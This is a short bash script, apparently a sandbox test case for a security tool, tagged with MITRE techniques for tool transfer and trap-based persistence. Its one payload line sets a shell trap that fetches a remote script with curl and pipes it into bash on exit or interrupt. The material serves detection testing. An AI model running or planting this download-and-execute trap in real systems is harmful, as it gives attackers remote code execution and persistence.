#!/bin/bash
# technique: T1105 T1546.005
# needs: curl bash
# net: sink
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

trap 'nohup curl -s http://203.0.113.7/x.sh | bash' EXIT INT; exit 0
